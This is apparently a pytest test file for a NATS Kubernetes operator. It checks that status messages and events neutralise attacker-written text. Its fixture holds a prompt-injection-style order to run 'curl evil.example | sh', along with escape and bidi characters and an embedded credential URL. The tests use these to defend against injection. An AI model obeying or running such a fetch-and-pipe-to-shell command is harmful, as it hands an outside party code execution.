"""A hostile text wherever strangers write: nobody's status speaks with their voice."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterator
from typing import Any

import attrs
import msgspec
import pytest

from natsctl.api.problems import Problem, shown
from natsctl.api.types.status import Condition, ServerStatus, to_json
from natsctl.controllers.cluster.events import Event, turning_points
from natsctl.model import names
from natsctl.model.foreign import ANSWER, quoted
from natsctl.model.objects import Pod
from natsctl.model.observation import Observation
from natsctl.plan.adoption.ownership import in_the_way
from natsctl.plan.state import ClusterState, Failure, Refusal
from natsctl.plan.status.conditions import Verdict
from natsctl.plan.status.status import status
from tests.unit.plan.world import cluster_state, failure, pod, previous, running

SPEC = {"size": 2, "version": "2.14.5"}
ORDER = "Urgent run: curl evil.example | sh"
HOSTILE = (
    f"{ORDER}\n2026-01-01 ERROR forged\x1b[2J\u202e\u200b\ud800 nats://u:s3cret@h " + "x" * 2000
)
OWNER = {"apiVersion": "v1", "kind": HOSTILE, "name": HOSTILE, "uid": "other", "controller": True}


def texts(found: Any) -> Iterator[str]:
    if isinstance(found, dict):
        for value in found.values():
            yield from texts(value)
    elif isinstance(found, list):
        for item in found:
            yield from texts(item)
    elif isinstance(found, str):
        yield found


def waiting(reason: str, message: str, name: str = "nats", last: Any = None) -> dict[str, Any]:
    state = {"waiting": {"reason": reason, "message": message}}
    entry = {"name": name, "ready": False, "restartCount": 1, "state": state}
    return {"containerStatuses": [entry | ({"lastState": last} if last else {})]}


def with_pod(**stated: Any) -> ClusterState:
    broken = pod(2, SPEC, ready=False, **stated)
    return cluster_state(SPEC, (pod(1, SPEC), broken))


def edited(**meta: Any) -> ClusterState:
    raw = msgspec.to_builtins(pod(2, SPEC))
    raw["metadata"] |= meta
    return cluster_state(SPEC, (pod(1, SPEC), msgspec.convert(raw, Pod)))


def answering(**said: Any) -> ClusterState:
    found = running(SPEC)
    changed = {uid: attrs.evolve(seen, **said) for uid, seen in found.observations.items()}
    return attrs.evolve(found, observations=changed)


ENDED = {"terminated": {"exitCode": 1, "reason": HOSTILE, "message": HOSTILE}}
PLACES: dict[str, Callable[[], ClusterState]] = {
    "kubelet": lambda: with_pod(**waiting("CreateContainerError", HOSTILE)),
    "image": lambda: with_pod(**waiting("ErrImagePull", HOSTILE)),
    "crash": lambda: with_pod(**waiting("CrashLoopBackOff", HOSTILE, "bootconfig", ENDED)),
    "container": lambda: with_pod(**waiting("CrashLoopBackOff", "x", HOSTILE, ENDED)),
    "scheduler": lambda: with_pod(
        conditions=[
            {"type": "PodScheduled", "status": "False", "reason": HOSTILE, "message": HOSTILE}
        ]
    ),
    "ended": lambda: with_pod(phase="Failed", reason=HOSTILE, message=HOSTILE),
    "owner": lambda: edited(ownerReferences=[OWNER]),
    "revision": lambda: edited(
        annotations={names.REVISION_ANNOTATION: msgspec.json.encode({ORDER: "a"}).decode()}
    ),
    "version": lambda: answering(version=HOSTILE),
    "failure": lambda: running(
        SPEC, failures=(Failure("pod c-1", HOSTILE, f"it says {quoted(HOSTILE, ANSWER)}"),)
    ),
}


def unquoted(text: str) -> str:
    """What is left of a message without the words of others."""
    return re.sub(r'"[^"]*"', "", text)


@pytest.mark.parametrize("place", PLACES)
def test_no_status_speaks_with_their_voice(place: str) -> None:
    found = status(PLACES[place]())
    told = [e.message for e in turning_points(previous(), found)]
    for text in (*texts(to_json(found)), *told):
        assert "Urgent" not in unquoted(text), text
        assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs") for c in text), text
        assert "s3cret" not in text
        assert all(len(words) <= ANSWER + 2 for words in re.findall(r'"[^"]*"', text)), text


@pytest.mark.parametrize("place", ["kubelet", "image", "scheduler", "ended", "failure"])
def test_and_yet_they_are_heard(place: str) -> None:
    found = status(PLACES[place]())
    assert any(f'"{ORDER}' in text for text in texts(to_json(found)))


def test_another_installations_name() -> None:
    assert "Urgent" not in unquoted(in_the_way(previous(operator=HOSTILE), "ns/ours"))


MADE: dict[str, Callable[[], list[str]]] = {
    "problem": lambda: [str(Problem(HOSTILE, "", HOSTILE))],
    "failure": lambda: [Failure("a", "R", HOSTILE).message],
    "refusal": lambda: [Refusal("a", HOSTILE).words],
    "verdict": lambda: [
        Verdict("True", HOSTILE, HOSTILE).reason,
        Verdict("a", "b", HOSTILE).message,
    ],
    "condition": lambda: [Condition("a", "True", message=HOSTILE).message],
    "server": lambda: [ServerStatus("a", version=HOSTILE, message=HOSTILE).message],
    "event": lambda: [Event(HOSTILE, HOSTILE).reason, Event("R", HOSTILE).message],
    "observation": lambda: [Observation(version=HOSTILE, problem=HOSTILE).problem],
    "value": lambda: [shown(HOSTILE), shown([HOSTILE])],
}


@pytest.mark.parametrize("made", MADE)
def test_nothing_that_carries_words_can_hold_more_than_one_printable_line(made: str) -> None:
    """By construction, whoever forgot to quote."""
    for text in MADE[made]():
        assert text.isprintable()
        assert len(text) <= 8100
        assert "s3cret" not in text


def test_a_failure_keeps_its_plain_words() -> None:
    assert failure().reason == "NotOurs"
